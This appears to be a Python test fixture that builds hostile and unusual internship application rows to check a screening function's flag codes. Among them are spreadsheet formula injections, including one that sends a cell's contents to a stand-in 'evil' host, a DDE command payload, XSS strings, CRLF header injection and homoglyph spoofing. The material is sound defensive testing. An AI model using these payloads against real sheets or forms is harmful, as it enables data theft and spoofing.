"""A corpus of hostile and awkward applications, each with the flag codes it must carry.

Used by tests/unit/test_hostile_screening.py (and by anyone benchmarking screening). Rows are
Applications-tab records keyed by header, as the roster port reads them. Every row is screened
together with the others (the duplicates need their partners); the expected set is the exact
set of flag codes the row must carry, empty for rows that are odd but legitimate (names in
Arabic or Chinese script, emoji, a grade typed as the number 11).
"""

from __future__ import annotations

from typing import Any

from microintern.config import ProgramConfig
from microintern.domain import program_sheet as sheet
from microintern.domain.long_answers import GOOGLE_CELL_LIMIT, fit_to_cell
from microintern.domain.records import Cell, Record

SCHOOL = "Mesa Valley High School"
OTHER_SCHOOL = "Canyon Ridge High School"
DOMAIN = "students.mesavalley.example"
HOSPITAL = "Behind the Scenes at a Regional Hospital"
CYBER = "Defend the Network: a Day in Cybersecurity"
ON_TIME = "2027-02-01 10:00:00"
ESSAY = (
    "My grandmother was a nurse and I want to see what a hospital looks like behind the scenes. "
    "I hope to learn which careers exist besides doctor and nurse and how to prepare for them "
    "while I am still in school and what classes would help me most next year."
)  # 50 words; the example config asks for 40


def clean_answers(n: int) -> dict[str, Cell]:
    """A complete, eligible application's answers by question key (score 100 in the example)."""
    return {
        "first_name": "Ana",
        "last_name": f"Rivera {n}",
        "student_id": f"{100000 + n}",
        "student_email": f"ana.rivera{n}@{DOMAIN}",
        "school": SCHOOL,
        "grade": "11",
        "guardian_name": f"Rosa Rivera {n}",
        "guardian_email": f"rosa.rivera{n}@mail.example.org",
        "family_language": "English",
        "interests": "Health Science",
        "pathway": "Health Science",
        "availability": HOSPITAL,
        "essay": ESSAY,
        "teacher_recommendation": "Ms. Holloway",
        "first_time": "Yes",
        "needs_device": "No",
        "gender": "",
        "first_generation": "",
    }


def application(
    config: ProgramConfig, n: int, *, submitted: Cell = ON_TIME, applicant_id: Cell = None, **answers: Cell
) -> Record:
    """An Applications row: a clean application ``n`` with some answers replaced (by key)."""
    values = {**clean_answers(n), **answers}
    record: Record = {
        sheet.APPLICANT_ID: f"A-T{n:04d}" if applicant_id is None else applicant_id,
        sheet.RESPONSE_ID: f"response-{n}",
        sheet.SUBMITTED: submitted,
        sheet.LANGUAGE: "en",
    }
    for question in config.application.questions:
        if question.key in values:
            record[question.title] = values[question.key]
    return record


def _without(record: Record, *titles: str) -> Record:
    return {k: v for k, v in record.items() if k not in titles}


def hostile_applications(config: ProgramConfig) -> list[tuple[Record, set[str]]]:
    """At least 40 rows, each with the exact set of flag codes screening must give it."""
    title = {q.key: q.title for q in config.application.questions}
    long_text = ("word " * 10_000).strip()  # 50,000 characters, 10,000 words
    rows: list[tuple[Record, set[str]]] = []

    def add(expected: set[str], n: int, **kwargs: Any) -> Record:
        record = application(config, n, **kwargs)
        rows.append((record, expected))
        return record

    # Legitimate, if unusual: no flags.
    add(set(), 1)
    add(set(), 2, first_name="José", last_name="García-Núñez", guardian_name="María Núñez")
    add(set(), 3, first_name="D'Andre", last_name="O'Connor")
    add(set(), 4, first_name="محمد", last_name="عبد الله", guardian_name="فاطمة عبد الله")
    add(set(), 5, first_name="李明", last_name="王", essay=ESSAY + " 我想学习医院的工作。 🏥🩺")
    add(set(), 6, first_name="Zoë 🌟", essay="🚀 " + ESSAY + " 💡✨")
    add(set(), 7, essay="I <3 science and think 3 < 5 is true. " + ESSAY)
    add(set(), 8, grade=11, student_id=100008)  # numbers where text is expected
    add(set(), 9, grade=11.0)
    add(set(), 10, first_time=True)  # a checkbox-style TRUE counts as yes
    add(set(), 11, submitted="2027-02-12 23:59:30")  # within the deadline minute
    add(set(), 12, essay="שלום! " + ESSAY + " مرحبا بالعالم")  # RTL scripts mixed in
    add(set(), 13, interests="Health Science, Information Technology, Other: marine biology")
    add(set(), 14, teacher_recommendation="-")  # no teacher named: fewer points, no flag
    extra = application(config, 15)
    extra.update({"Unnamed: 40": "=1+1", "Favourite colour": "<b>blue</b>", "": None})
    rows.append((extra, set()))  # extra columns are not answers
    reordered = application(config, 16)
    rows.append((dict(reversed(list(reordered.items()))), set()))
    partial = _without(application(config, 17), title["teacher_recommendation"], title["first_time"],
                       title["needs_device"], title["gender"], title["first_generation"])
    rows.append((partial, set()))  # optional columns missing entirely

    # Formula and markup: kept as text, flagged.
    add({"FORMULA"}, 20, last_name='=HYPERLINK("http://evil","x")')
    add({"FORMULA"}, 21, teacher_recommendation="+cmd")
    add({"FORMULA"}, 22, guardian_name="@SUM(1)")
    add({"FORMULA"}, 23, teacher_recommendation="-2+3+cmd|' /C calc'!A0")
    add({"FORMULA"}, 24, essay="=IMPORTXML(CONCAT(\"http://evil/?\",A1),\"//a\") " + ESSAY)
    add({"FORMULA"}, 25, essay="<script>alert('x')</script> " + ESSAY)
    add({"FORMULA"}, 26, first_name='<img src=x onerror="alert(1)">')
    add({"FORMULA"}, 27, gender="<!-- hidden -->")
    add({"FORMULA", "CONTROL_CHARS"}, 28, teacher_recommendation="\t=1+1")

    # Control characters and line breaks in one-line answers.
    add({"CONTROL_CHARS"}, 30, first_name="Ana\r\nBcc: everyone@example.org")
    add({"CONTROL_CHARS"}, 31, guardian_name="Rosa\nRivera")
    add({"CONTROL_CHARS"}, 32, last_name="Rivera\u202egnp.exe")  # right-to-left override
    add({"CONTROL_CHARS"}, 33, first_name="Ana\x00")
    add({"BAD_EMAIL", "CONTROL_CHARS"}, 34, student_email=f"ana34@{DOMAIN}\r\nBcc: all@example.org")

    # Very long answers: kept, flagged, never slow.
    add({"LONG_ANSWER"}, 36, essay=long_text)
    add({"LONG_ANSWER", "FORMULA"}, 37, first_name="=" + "A" * 50_000)
    # A 1 MB essay as intake leaves it in the sheet: cut to the cell, with the marker.
    add({"LONG_ANSWER"}, 38, essay=fit_to_cell(ESSAY * 4_200, GOOGLE_CELL_LIMIT, key="A-T0038/essay").text)

    # Blank and missing.
    blank = {sheet.APPLICANT_ID: "A-T0040", sheet.SUBMITTED: ""}
    blank.update({q.title: "" for q in config.application.questions})
    rows.append((blank, {"MISSING", "NO_SESSION"}))
    nones: Record = {sheet.APPLICANT_ID: "A-T0041", sheet.SUBMITTED: None}
    nones.update({q.title: None for q in config.application.questions})
    rows.append((nones, {"MISSING", "NO_SESSION"}))
    rows.append((_without(application(config, 42), title["essay"], title["student_id"]), {"MISSING"}))
    add({"MISSING"}, 43, guardian_name="   ")

    # Email problems.
    add({"BAD_EMAIL"}, 45, student_email="ana45students.mesavalley.example")
    add({"BAD_EMAIL"}, 46, guardian_email="mom@@example.org")
    add({"BAD_EMAIL"}, 47, student_email="ana47@school.invalid")
    add({"OUTSIDE_DOMAIN"}, 48, student_email="ana48@gmail.example.com")
    add({"SAME_EMAIL"}, 49, guardian_email=f"ANA.RIVERA49@{DOMAIN.upper()}")

    # Eligibility.
    add({"GRADE"}, 50, grade="9")
    add({"GRADE"}, 51, grade="junior")
    add({"GRADE"}, 52, grade=8)
    add({"LATE"}, 53, submitted="2027-02-13 08:00:00")
    add({"NO_SESSION"}, 54, availability="Underwater Basket Weaving")
    add({"SHORT_ESSAY"}, 55, essay="I like computers.")
    add({"NEEDS_DEVICE"}, 56, needs_device="Yes")
    add({"GRADE", "LATE", "BAD_EMAIL", "FORMULA", "SHORT_ESSAY"}, 57, grade="7",
        submitted="2027-03-01 00:00:00", student_email="not an email", first_name="@evil",
        essay="no")

    # Duplicates: the first submission of each student is kept (its id was acknowledged).
    add(set(), 60, submitted="2027-02-01 09:00:00")
    add({"DUPLICATE"}, 61, student_id="100060", submitted="2027-02-03 09:00:00")  # same id as 60, later
    add(set(), 62, student_email=f"SAME.student@{DOMAIN}", submitted="2027-02-02 09:00:00")
    add({"DUPLICATE"}, 63, student_email=f"same.student@{DOMAIN}", submitted="2027-02-04 09:00:00")
    add(set(), 64, first_name="José", last_name="Ramírez", school=OTHER_SCHOOL,
        student_id="n/a", submitted="2027-02-02 09:00:00")
    add({"DUPLICATE"}, 65, first_name="JOSE", last_name="  ramirez ", school=OTHER_SCHOOL,
        submitted="2027-02-05 09:00:00")
    # Same name and school but different student ids: two students, not a duplicate.
    add(set(), 66, first_name="Maria", last_name="Lopez", school=OTHER_SCHOOL)
    add(set(), 67, first_name="María", last_name="López", school=OTHER_SCHOOL)
    # A chain: 68 and 69 share an id, 69 and 70 share an email; 68 is the first.
    add(set(), 68, submitted="2027-02-01 08:00:00")
    add({"DUPLICATE"}, 69, student_id="100068", submitted="2027-02-02 08:00:00")
    add({"DUPLICATE"}, 70, student_email=f"ana.rivera69@{DOMAIN}", submitted="2027-02-03 08:00:00")
    # A duplicate can be hostile too.
    add({"FORMULA"}, 71, student_id="100072", last_name="=cmd",
        submitted="2027-02-01 07:00:00")
    add({"DUPLICATE"}, 72, submitted="2027-02-06 07:00:00")

    # Look-alike letters from another script in addresses and names: a person must look.
    add({"LOOKALIKE"}, 80, student_email=f"\u0430na.rivera80@{DOMAIN}")  # Cyrillic a
    add({"LOOKALIKE"}, 81, guardian_email="rosa81@mail.ex\u03bfmple.org")  # Greek omicron
    add({"LOOKALIKE", "OUTSIDE_DOMAIN"}, 82, student_email="ana.rivera82@students.mesavalley.ex\u0430mple")
    add({"LOOKALIKE"}, 83, first_name="J\u043es\u00e9")  # Cyrillic o inside a Latin word
    add({"LOOKALIKE"}, 84, last_name="Rivera \u0421\u043e\u0441\u043e")  # a Cyrillic word posing as Latin
    # One script throughout is a name, whatever the script: no flags.
    add(set(), 85, first_name="Анна", last_name="Иванова", guardian_name="Мария Иванова")
    add(set(), 86, first_name="Νίκος", last_name="Παπαδόπουλος")
    add(set(), 87, first_name="はなこ", last_name="山田")
    add(set(), 88, first_name="زهرا", last_name="علی\u200cزاده")  # Persian spelling uses the ZWNJ
    add(set(), 89, first_name="Zoë 👩\u200d🔬")  # ZWJ inside an emoji sequence

    # Guardian addresses that are student addresses.
    add({"SAME_EMAIL"}, 90, guardian_email=f"rosa.rivera90@{DOMAIN}")  # on the student domain
    add({"SAME_EMAIL"}, 91, guardian_email="marcodiaz93@gmail.com")  # applicant 93's, dots aside
    add({"OUTSIDE_DOMAIN", "SAME_EMAIL"}, 92, student_email="ana.rivera92@gmail.com",
        guardian_email="AnaRivera92+mom@googlemail.com")  # the student's own, dots and +tag aside
    add({"OUTSIDE_DOMAIN"}, 93, first_name="Marco", last_name="Díaz", student_email="marco.diaz93@gmail.com")

    # Hidden characters, wherever they are.
    add({"CONTROL_CHARS"}, 94, first_name="A\u200bna")  # zero-width space
    add({"CONTROL_CHARS"}, 95, first_name="\u202eanA")  # right-to-left override
    add({"CONTROL_CHARS"}, 96, last_name="Rivera\r\nBcc: everyone@example.org")
    add({"CONTROL_CHARS"}, 97, essay=ESSAY.replace("behind", "be\u200bhind"))  # in a paragraph too
    add({"CONTROL_CHARS"}, 98, first_name="Ana\u3164")  # Hangul filler: a letter that shows nothing
    add({"CONTROL_CHARS"}, 99, guardian_name="\ufeffRosa Rivera 99")  # byte order mark

    # Verified respondents: the typed school email is kept beside the signed-in one. (Numbers from
    # 400: test_screening adds its own rows 100-129 to the corpus.)
    add({"TYPED_EMAIL_DIFFERS"}, 400)[sheet.TYPED_EMAIL] = "victim@example.com"
    add(set(), 401)[sheet.TYPED_EMAIL] = f" Ana.Rivera401@{DOMAIN.upper()} "  # the same, case aside
    add(set(), 402)[sheet.TYPED_EMAIL] = ""
    # Valid mail the mailer cannot address (a non-ASCII local part): no silent missing letter.
    add({"BAD_EMAIL"}, 403, student_email="李明@example.cn")
    add({"BAD_EMAIL"}, 404, student_email=f"josé.garcía404@{DOMAIN}")  # Latin, but not ASCII
    add({"BAD_EMAIL"}, 405, guardian_email="妈妈405@example.cn")  # advisory: the student is ranked
    add({"OUTSIDE_DOMAIN"}, 406, student_email="ana406@bücher.example")  # an IDN domain is sendable
    return rows
